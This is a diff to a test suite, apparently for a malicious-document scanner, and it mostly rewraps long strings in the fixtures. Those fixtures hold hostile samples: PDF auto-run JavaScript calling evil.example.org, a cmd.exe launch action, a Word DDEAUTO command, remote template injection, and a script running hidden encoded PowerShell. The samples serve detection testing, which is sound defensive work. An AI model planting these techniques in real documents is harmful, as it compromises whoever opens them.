@@ -82,7 +82,7 @@ describe('shortcuts', () => {
 });
 
 describe('PDF', () => {
-  it('finds JavaScript run on open, also when the names are hex-escaped or compressed', async () => {
+  it('finds JavaScript run on open, also behind #xx escapes or compression', async () => {
     const plain = pdf([
       '<< /Type /Catalog /OpenAction 2 0 R >>',
       '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example.org/x"\\)) >>',
@@ -99,7 +99,8 @@ describe('PDF', () => {
     const inner = deflateSync(Buffer.from('<< /S /Launch /F (cmd.exe) >>'));
     const stream = Buffer.concat([
       Buffer.from(
-        `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${inner.length} >>\nstream\n`,
+        `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${inner.length} >>` +
+          '\nstream\n',
       ),
       inner,
       Buffer.from('\nendstream\nendobj\n%%EOF\n'),
@@ -149,7 +150,9 @@ describe('OOXML', () => {
   const contentTypes = {
     name: '[Content_Types].xml',
     content: Buffer.from(
-      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+      '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="' +
+        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
+        '</Types>',
     ),
   };
 
@@ -159,13 +162,17 @@ describe('OOXML', () => {
       {
         name: 'word/document.xml',
         content: Buffer.from(
-          '<w:document><w:body><w:p><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>',
+          '<w:document><w:body><w:p><w:r><w:instrText> DDEAUTO ' +
+            'c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>' +
+            '</w:body></w:document>',
         ),
       },
       {
         name: 'word/_rels/settings.xml.rels',
         content: Buffer.from(
-          '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
+          '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/' +
+            'officeDocument/2006/relationships/attachedTemplate" ' +
+            'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
         ),
       },
     ]);
@@ -183,7 +190,8 @@ describe('scripts', () => {
       'utf16le',
     ).toString('base64');
     const js = Buffer.from(
-      `var s = new ActiveXObject("WScript.Shell");\ns.Run("powershell -w hidden -enc ${command}", 0);`,
+      'var s = new ActiveXObject("WScript.Shell");\n' +
+        `s.Run("powershell -w hidden -enc ${command}", 0);`,
     );
     const item = await analyzeBytes(js, 'invoice.js', defaultOptions());
     const [file] = item.files;
